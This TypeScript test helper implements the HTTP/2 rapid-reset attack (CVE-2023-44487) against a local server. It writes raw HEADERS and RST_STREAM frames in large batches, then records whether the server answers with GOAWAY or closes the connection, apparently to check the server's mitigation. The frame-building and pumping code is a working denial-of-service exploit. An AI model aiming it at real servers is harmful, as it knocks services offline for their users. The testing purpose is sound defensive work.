// Test helper: an HTTP/2 rapid-reset attacker (CVE-2023-44487) writing raw frames on one h2c
// connection: HEADERS (END_STREAM) immediately followed by RST_STREAM(CANCEL), stream after stream.
import net from 'node:net';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const FRAME_HEADERS = 0x1;
const FRAME_RST_STREAM = 0x3;
const FRAME_SETTINGS = 0x4;
const FRAME_GOAWAY = 0x7;
const FLAG_END_STREAM = 0x1;
const FLAG_END_HEADERS = 0x4;
const FLAG_ACK = 0x1;
const CANCEL = 0x8;
/** Streams written per socket write. */
const STREAMS_PER_WRITE = 500;

/** What one attacking connection saw. */
export interface RapidResetResult {
  /** HEADERS+RST_STREAM pairs written before the connection closed or the count was reached. */
  written: number;
  /** The server's GOAWAY, if one arrived. */
  goaway: { errorCode: number; lastStreamId: number } | null;
  /** The server closed the connection (rather than the attacker finishing first). */
  closedByServer: boolean;
  /** Milliseconds from connect to close (or to the end of the writes plus the linger). */
  durationMs: number;
}

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const b = Buffer.allocUnsafe(9 + payload.length);
  b.writeUIntBE(payload.length, 0, 3);
  b[3] = type;
  b[4] = flags;
  b.writeUInt32BE(streamId & 0x7fffffff, 5);
  payload.copy(b, 9);
  return b;
}

/** An HPACK block for GET http://`authority`/ (static-table method, scheme and path; the authority a literal). */
function hpackRequest(authority: string): Buffer {
  const value = Buffer.from(authority, 'latin1');
  // 0x01: literal without indexing, name :authority (static index 1); the value must fit a 7-bit length.
  return Buffer.concat([Buffer.from([0x82, 0x86, 0x84, 0x01, value.length]), value]);
}

function headersFrame(streamId: number, block: Buffer): Buffer {
  return frame(FRAME_HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, streamId, block);
}

function rstFrame(streamId: number): Buffer {
  const p = Buffer.alloc(4);
  p.writeUInt32BE(CANCEL, 0);
  return frame(FRAME_RST_STREAM, 0, streamId, p);
}

/**
 * Opens one h2c connection to 127.0.0.1:`port` and sends `streams` HEADERS+RST_STREAM pairs as fast as
 * the socket takes them; resolves when the server closes the connection, or `lingerMs` after the last write.
 */
export function rapidReset(port: number, streams: number, lingerMs = 2000): Promise<RapidResetResult> {
  const block = hpackRequest(`127.0.0.1:${port}`);
  return new Promise((resolve) => {
    const started = performance.now();
    const socket = net.connect(port, '127.0.0.1');
    let written = 0;
    let goaway: RapidResetResult['goaway'] = null;
    let closed = false;
    let inbound: Buffer = Buffer.alloc(0);
    let lingerTimer: NodeJS.Timeout | null = null;
    const finish = (closedByServer: boolean): void => {
      if (lingerTimer !== null) clearTimeout(lingerTimer);
      if (!closed) {
        closed = true;
        socket.destroy();
        resolve({ written, goaway, closedByServer, durationMs: performance.now() - started });
      }
    };
    socket.on('error', () => { /* the close that follows ends the attack */ });
    socket.on('close', () => finish(true));
    socket.on('data', (d: Buffer) => {
      inbound = inbound.length === 0 ? d : Buffer.concat([inbound, d]);
      while (inbound.length >= 9) {
        const len = inbound.readUIntBE(0, 3);
        if (inbound.length < 9 + len) break;
        const type = inbound[3];
        const flags = inbound[4];
        const payload = inbound.subarray(9, 9 + len);
        if (type === FRAME_SETTINGS && (flags & FLAG_ACK) === 0) socket.write(frame(FRAME_SETTINGS, FLAG_ACK, 0, Buffer.alloc(0)));
        if (type === FRAME_GOAWAY && len >= 8) {
          goaway = { lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, errorCode: payload.readUInt32BE(4) };
        }
        inbound = inbound.subarray(9 + len);
      }
    });
    // One write's worth of pairs, built once; each write copies it and patches in the stream ids.
    const pair = Buffer.concat([headersFrame(1, block), rstFrame(1)]);
    const rstAt = pair.length - 13;
    const template = Buffer.concat(Array.from({ length: STREAMS_PER_WRITE }, () => pair));
    const pump = (): void => {
      while (!closed && written < streams) {
        const n = Math.min(STREAMS_PER_WRITE, streams - written);
        const chunk = Buffer.from(template.subarray(0, n * pair.length));
        for (let i = 0; i < n; i++) {
          const id = 2 * (written + i) + 1;
          chunk.writeUInt32BE(id, i * pair.length + 5);
          chunk.writeUInt32BE(id, i * pair.length + rstAt + 5);
        }
        written += n;
        if (!socket.write(chunk)) {
          socket.once('drain', pump);
          return;
        }
      }
      if (!closed && written >= streams && lingerTimer === null) lingerTimer = setTimeout(finish, lingerMs, false);
    };
    socket.once('connect', () => {
      socket.write(Buffer.concat([PREFACE, frame(FRAME_SETTINGS, 0, 0, Buffer.alloc(0))]));
      pump();
    });
  });
}
